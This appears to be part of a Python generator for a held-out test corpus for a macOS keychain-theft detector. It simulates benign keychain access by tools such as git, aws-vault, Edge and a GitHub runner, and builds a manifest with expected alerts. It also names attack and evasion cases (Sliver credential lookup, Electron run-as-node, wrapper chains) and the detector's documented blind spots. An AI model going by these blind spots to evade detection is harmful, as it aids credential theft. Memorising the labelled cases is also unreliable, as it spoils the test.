@case("kinit_keychain_password", "benign",
      "`kinit --keychain alice@CORP.EXAMPLE.COM`: Apple's Heimdal kinit takes the Kerberos password from the "
      "login keychain through the API (Active Directory-bound Macs).",
      ["https://github.com/apple-oss-distributions/Heimdal/blob/main/kuser/kinit.c"])
def b_kinit(w, c):
    zsh = w.terminal_shell()
    k = w.spawn(zsh, "/usr/bin/kinit", ["kinit", "--keychain", "alice@CORP.EXAMPLE.COM"])
    raw_read(w, k)
    c.exp("keychain_read", "/usr/bin/kinit", False, "open")
    w.exit(k)


@case("homebrew_github_token_via_git_credential", "benign",
      "Homebrew looks up a GitHub token with `git credential-osxkeychain get` (utils/github/api.rb) from its "
      "portable ruby; the Apple-signed helper reads the github.com internet password through the API.",
      ["https://github.com/Homebrew/brew/blob/master/Library/Homebrew/utils/github/api.rb"], version=10,
      blind_spot="Homebrew-built and locally built tools are ad hoc or linker-signed")
def b_brew_token(w, c):
    zsh = w.terminal_shell()
    brew = w.spawn(zsh, "/bin/bash", ["/bin/bash", "/opt/homebrew/Library/Homebrew/brew.sh", "search", "foo"])
    rb = w.spawn(brew, PORTABLE_RUBY, ["ruby", "/opt/homebrew/Library/Homebrew/brew.rb", "search", "foo"])
    git = w.spawn(rb, "/Library/Developer/CommandLineTools/usr/bin/git", ["git", "credential-osxkeychain", "get"])
    h = w.exec(git, GIT_CRED, ["git-credential-osxkeychain", "get"])
    raw_read(w, h)
    c.exp("keychain_read", GIT_CRED, True, "open",
          note="README blind spot: an ad-hoc interpreter asking a credential helper is a stealer's shape too")
    w.exit(h), w.exit(rb), w.exit(brew)


@case("git_credential_osxkeychain_get", "benign",
      "`git push` over HTTPS: git runs its credential helper git-credential-osxkeychain (Command Line Tools, Apple "
      "signed), which reads the github.com internet password through the keychain API.",
      ["https://github.com/git/git/blob/master/contrib/credential/osxkeychain/git-credential-osxkeychain.c"],
      version=10)
def b_git_cred(w, c):
    zsh = w.terminal_shell(cwd=f"{HOME}/src/app")
    git = w.spawn(zsh, "/Library/Developer/CommandLineTools/usr/bin/git", ["git", "push"])
    sh = w.sh_c(git, "git credential-osxkeychain get")
    h = w.exec(sh, GIT_CRED, ["git-credential-osxkeychain", "get"])
    raw_read(w, h)
    c.exp("keychain_read", GIT_CRED, False, "open")
    w.exit(h), w.exit(git)


@case("aws_vault_own_keychain", "benign",
      "aws-vault (99designs/keyring keychain backend) reads and saves session credentials in its own "
      "aws-vault.keychain-db through the API: a read-only open and an atomic save.",
      ["https://github.com/99designs/aws-vault/blob/master/USAGE.md",
       "https://github.com/99designs/keyring/blob/master/keychain.go"])
def b_aws_vault(w, c):
    zsh = w.terminal_shell()
    a = w.spawn(zsh, AWS_VAULT, ["aws-vault", "exec", "prod", "--", "aws", "s3", "ls"])
    kc = f"{KC_DIR}/aws-vault.keychain-db"
    raw_read(w, a, kc)
    tmp = f"{kc}.sb-1f2e3d4c-Qm81aZ"
    w.write_new(a, tmp, 48_000, fflag=FRW | O_CREAT | 0x800)
    w.rename(a, tmp, kc)
    c.exp("keychain_read", AWS_VAULT, False, "open")
    w.exit(a)


@case("edge_reads_own_safe_storage", "benign",
      "Microsoft Edge (Developer ID, Microsoft team UBF8T346G9) reads its Safe Storage key at start (Chromium's "
      "os_crypt through the API).",
      ["https://chromium.googlesource.com/chromium/src/+/main/components/os_crypt/sync/keychain_password_mac.mm"])
def b_edge(w, c):
    a = launch_app(w, EDGE)
    raw_read(w, a)
    c.exp("keychain_read", EDGE, False, "open")
    w.exit(a)


@case("company_portal_platform_sso", "benign",
      "Microsoft Company Portal (Platform SSO registration) reads and updates its device-identity items in the "
      "login keychain through the API.",
      ["https://learn.microsoft.com/en-us/entra/identity/devices/macos-psso"])
def b_portal(w, c):
    a = launch_app(w, PORTAL)
    raw_read(w, a)
    tmp = f"{LOGIN_KC}.sb-77ab01fe-Zt40Lq"
    w.write_new(a, tmp, 2_380_800, fflag=FRW | O_CREAT | 0x800)
    w.rename(a, tmp, LOGIN_KC)
    c.exp("keychain_read", PORTAL, False, "open")
    w.exit(a)


@case("defender_on_access_scan", "benign",
      "Microsoft Defender for Endpoint's daemon (Developer ID, root) scans files on access, keychain files "
      "included, read-only.",
      ["https://learn.microsoft.com/en-us/defender-endpoint/mac-exclusions"])
def b_wdav(w, c):
    d = w.launchd_spawn(WDAV, [WDAV], ROOT_DAEMON, g.SYS_ASID, "com.microsoft.wdav.daemon")
    raw_read(w, d)
    raw_read(w, d, SYS_KC)
    c.exp("keychain_read", WDAV, False, "open", target_path=LOGIN_KC)
    w.exit(d)


@case("tailscale_reads_state", "benign",
      "Tailscale's standalone macOS app keeps its node state in the keychain and reads it at start.",
      ["https://tailscale.com/kb/1065/macos-variants"])
def b_tailscale(w, c):
    a = launch_app(w, TAILSCALE)
    raw_read(w, a)
    c.exp("keychain_read", TAILSCALE, False, "open")
    w.exit(a)


@case("okta_verify_reads_keychain", "benign",
      "Okta Verify (Developer ID) reads its enrolment keys through the keychain API.",
      ["https://help.okta.com/oie/en-us/content/topics/identity-engine/devices/ov-mac-overview.htm"])
def b_okta(w, c):
    a = launch_app(w, OKTA)
    raw_read(w, a)
    c.exp("keychain_read", OKTA, False, "open")
    w.exit(a)


@case("vpn_client_reads_system_keychain", "benign",
      "A VPN client's root daemon (Cisco Secure Client vpnagentd, Developer ID) looks up its machine certificate "
      "in the System keychain through the API.",
      ["https://developer.apple.com/documentation/security/certificate-key-and-trust-services"])
def b_vpn(w, c):
    d = w.launchd_spawn(VPNAGENT, [VPNAGENT, "-execv_instance"], ROOT_DAEMON, g.SYS_ASID, "com.cisco.secureclient.vpnagentd")
    raw_read(w, d, SYS_KC)
    c.exp("keychain_read", VPNAGENT, False, "open")
    w.exit(d)


@case("xcode_reads_signing_identities", "benign",
      "Xcode (Apple signed, outside the OS) reads signing identities from the login keychain when a project "
      "builds with automatic signing.",
      ["https://developer.apple.com/documentation/xcode/sharing-your-teams-signing-certificates"], version=10)
def b_xcode(w, c):
    a = launch_app(w, XCODE)
    raw_read(w, a)
    c.exp("keychain_read", XCODE, False, "open")
    w.exit(a)


@case("notarytool_store_credentials", "benign",
      "`xcrun notarytool store-credentials AC_PASSWORD --apple-id ... --team-id ...`: notarytool saves an "
      "app-specific password as a keychain item (read, then atomic save).",
      ["https://developer.apple.com/documentation/security/customizing-the-notarization-workflow"], version=10)
def b_notary(w, c):
    zsh = w.terminal_shell()
    n = w.spawn(zsh, NOTARYTOOL, ["notarytool", "store-credentials", "AC_PASSWORD", "--apple-id",
                                  "dev@example.com", "--team-id", "ABCDE12345"])
    raw_read(w, n)
    tmp = f"{LOGIN_KC}.sb-0c1d2e3f-Pq19Xb"
    w.write_new(n, tmp, 2_380_800, fflag=FRW | O_CREAT | 0x800)
    w.rename(n, tmp, LOGIN_KC)
    c.exp("keychain_read", NOTARYTOOL, False, "open")
    w.exit(n)


@case("github_docs_install_apple_certificate", "benign",
      "GitHub's documented runner step: `security create-keychain -p $KEYCHAIN_PASSWORD`, `set-keychain-settings "
      "-lut 21600`, `unlock-keychain`, `import $CERTIFICATE_PATH -P $P12_PASSWORD -A -t cert -f pkcs12`, "
      "`set-key-partition-list -S apple-tool:,apple:`, `list-keychain -d user -s`, then `delete-keychain`.",
      ["https://docs.github.com/en/actions/deployment/deploying-xcode-applications/installing-an-apple-certificate-on-macos-runners-for-xcode-development"])
def b_gh_docs(w, c):
    listener = w.launchd_spawn("/Users/runner/actions-runner/bin/Runner.Listener",
                               ["/Users/runner/actions-runner/bin/Runner.Listener", "run"], g.RUNNER_DAEMON,
                               g.SYS_ASID, "actions.runner.org.mac-2")
    worker = w.spawn(listener, "/Users/runner/actions-runner/bin/Runner.Worker",
                     ["/Users/runner/actions-runner/bin/Runner.Worker", "spawnclient", "77", "78"])
    bash = w.spawn(worker, "/bin/bash", ["/bin/bash", "-e", "/Users/runner/work/_temp/2b1c.sh"])
    kc = "/Users/runner/work/_temp/app-signing.keychain-db"
    for argv in (["security", "create-keychain", "-p", "kcRunnerPW7", kc],
                 ["security", "set-keychain-settings", "-lut", "21600", kc],
                 ["security", "unlock-keychain", "-p", "kcRunnerPW7", kc],
                 ["security", "import", "/Users/runner/work/_temp/build_certificate.p12", "-P", "p12RunnerPW8", "-A",
                  "-t", "cert", "-f", "pkcs12", "-k", kc],
                 ["security", "set-key-partition-list", "-S", "apple-tool:,apple:", "-k", "kcRunnerPW7", kc],
                 ["security", "list-keychain", "-d", "user", "-s", kc],
                 ["security", "delete-keychain", kc]):
        s = w.spawn(bash, SEC, argv)
        w.exit(s)
    c.secret("kcRunnerPW7", "p12RunnerPW8")
    c.exp("import", SEC, False)
    w.exit(bash)


@case("mitmproxy_trust_ca", "benign",
      "mitmproxy's documented CA install: `sudo security add-trusted-cert -d -p ssl -p basic -k "
      "/Library/Keychains/System.keychain ~/.mitmproxy/mitmproxy-ca-cert.pem`.",
      ["https://docs.mitmproxy.org/stable/concepts-certificates/"])
def b_mitm(w, c):
    zsh = w.terminal_shell()
    sudo, s = sudo_run(w, zsh, SEC, ["security", "add-trusted-cert", "-d", "-p", "ssl", "-p", "basic", "-k", SYS_KC,
                                     f"{HOME}/.mitmproxy/mitmproxy-ca-cert.pem"])
    c.exp("security_other", SEC, False, verb="add-trusted-cert")
    w.exit(s), w.exit(sudo)


@case("fastlane_decodes_provisioning_profile", "benign",
      "fastlane's ProvisioningProfile.decode: `security cms -D -i <profile>.mobileprovision` (CMS decoding, no "
      "keychain secret).",
      ["https://github.com/fastlane/fastlane/blob/master/fastlane_core/lib/fastlane_core/provisioning_profile.rb"])
def b_fl_cms(w, c):
    zsh = w.terminal_shell(cwd=f"{HOME}/src/app")
    rb = w.spawn(zsh, gf.HB_RUBY, ["ruby", f"{HOME}/.gem/ruby/3.3.0/bin/fastlane", "sigh"])
    sec_via_sh(w, rb, ["security", "cms", "-D", "-i", f"{HOME}/src/app/AppStore.mobileprovision"])
    c.exp("security_other", SEC, False, verb="cms")
    w.exit(rb)


@case("jamf_policy_reads_authorizationdb", "benign",
      "A Jamf policy script (genuine agent) reads and relaxes an authorization right: `security authorizationdb "
      "read system.preferences.printing` (no keychain secret).",
      ["https://ss64.com/mac/security.html", "https://developer.apple.com/documentation/security/authorization-services"])
def b_jamf_authdb(w, c):
    jamf = launch_app(w, gf.JAMF, creds=ROOT_DAEMON, asid=g.SYS_ASID)
    zsh = w.spawn(jamf, "/bin/zsh", ["/bin/zsh", "/Library/Application Support/JAMF/tmp/printing.sh"])
    sec_direct(w, zsh, ["security", "authorizationdb", "read", "system.preferences.printing"])
    c.exp("security_other", SEC, False, verb="authorizationdb")
    w.exit(zsh), w.exit(jamf)


@case("mitmproxy_app_reads_keychain", "benign",
      "mitmproxy's signed app bundle reading its stored upstream credentials through the API (a Developer ID "
      "network tool, launched from the Dock).",
      ["https://docs.mitmproxy.org/stable/overview-installation/"])
def b_mitm_app(w, c):
    a = launch_app(w, MITMPROXY)
    raw_read(w, a)
    c.exp("keychain_read", MITMPROXY, False, "open")
    w.exit(a)


@case("user_deletes_own_item", "benign",
      "A developer removes a stale item of their own script: `security delete-generic-password -s myscript -a "
      "alice` from a terminal.",
      ["https://ss64.com/mac/security-delete-generic-password.html"])
def b_delete(w, c):
    zsh = w.terminal_shell()
    sec_direct(w, zsh, ["security", "delete-generic-password", "-s", "myscript", "-a", "alice"])
    c.exp("security_other", SEC, False, verb="delete-generic-password")


# =============================================================================================
# The same behaviours on macOS 26 (message version 10) and on captures without fork and exit events
# =============================================================================================

for _name, _fn, _ver, _forks in [
    ("evasion_wrapper_chain_pads_interpreter_depth_no_forks", e_wrappers, 9, False),
    ("evasion_electron_run_as_node_v10", e_electron, 10, True),
    ("sliver_execute_find_internet_password_v10", a_sliver_inet, 10, True),
    ("edge_reads_own_safe_storage_v10", b_edge, 10, True),
]:
    _base = next(c for c in CASES if c.fn is _fn)
    CASES.append(FieldCase(_name, _base.label, _base.description + (
        " (message version 10)" if _ver == 10 else " (capture without fork and exit events)"),
        list(_base.sources), _fn, _ver, _forks))


# ---------------------------------------------------------------------------------------------
# Build and check
# ---------------------------------------------------------------------------------------------


def build():
    manifest = {
        "generator": "tests/field_holdout/gen_holdout.py",
        "about": "Held-out field corpus, written blind against tests/field/: other families, other benign tools "
                 "and evasions that try to satisfy the README's rules on purpose. attack and evasion cases must "
                 "alert unless they name the README blind spot they fall in; no benign case may. Conventions as tests/field/cases.json.",
        "cases": [],
    }
    for idx, spec in enumerate(CASES):
        start = (f"2026-02-{1 + idx % 28:02d}T{9 + idx % 9:02d}:{(idx * 11) % 60:02d}:{(idx * 17) % 60:02d}."
                 f"{g._h(spec.name) % 10**9:09d}Z")
        w = g.World(version=spec.version, start=start, seed=9000 + idx * 37, fork_exit=spec.forks,
                    pid_base=60000 + (g._h(spec.name) % 500) * 100)
        c = g.Case(spec)
        gen = spec.fn(w, c)
        if gen is not None:
            for _ in gen:
                w.gap(200, 1500)
        g.write_lines(HERE / f"{spec.name}.ndjson", w)
        manifest["cases"].append({
            "name": spec.name, "label": spec.label, "description": spec.description, "sources": spec.sources,
            "file": f"tests/field_holdout/{spec.name}.ndjson", "es_version": spec.version, "lines": len(w.lines),
            "expect": c.expect, "secrets": c.secrets,
        })
        if spec.name in BLIND_SPOTS:
            manifest["cases"][-1]["blind_spot"] = BLIND_SPOTS[spec.name]
    (HERE / "cases.json").write_text(json.dumps(manifest, indent=2, ensure_ascii=False) + "\n")
    return manifest


def check(manifest):
    errs = []
    for cs in manifest["cases"]:
        errs += g.check_stream(HERE / f"{cs['name']}.ndjson", cs["es_version"], True)
        if cs["label"] in ("attack", "evasion") and not cs.get("blind_spot") \
                and not any(e["alert"] for e in cs["expect"]):
            errs.append(f"{cs['name']}: {cs['label']} without an alerting expectation")
        if cs["label"] == "benign" and not cs.get("blind_spot") and any(e["alert"] for e in cs["expect"]):
            errs.append(f"{cs['name']}: benign case expects an alert")
        if not cs["sources"]:
            errs.append(f"{cs['name']}: no source")
    counts = {k: sum(1 for c in manifest["cases"] if c["label"] == k) for k in ("attack", "benign", "evasion")}
    if counts["attack"] < 15 or counts["benign"] < 15 or counts["evasion"] < 10:
        errs.append(f"corpus too small: {counts}")
    return errs, counts


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--check", action="store_true")
    a = ap.parse_args()
    manifest = json.loads((HERE / "cases.json").read_text()) if a.check else build()
    errs, counts = check(manifest)
    for e in errs:
        print("FAIL", e, file=sys.stderr)
    print(f"{counts}, {len(errs)} problems")
    return 1 if errs else 0


if __name__ == "__main__":
    sys.exit(main())
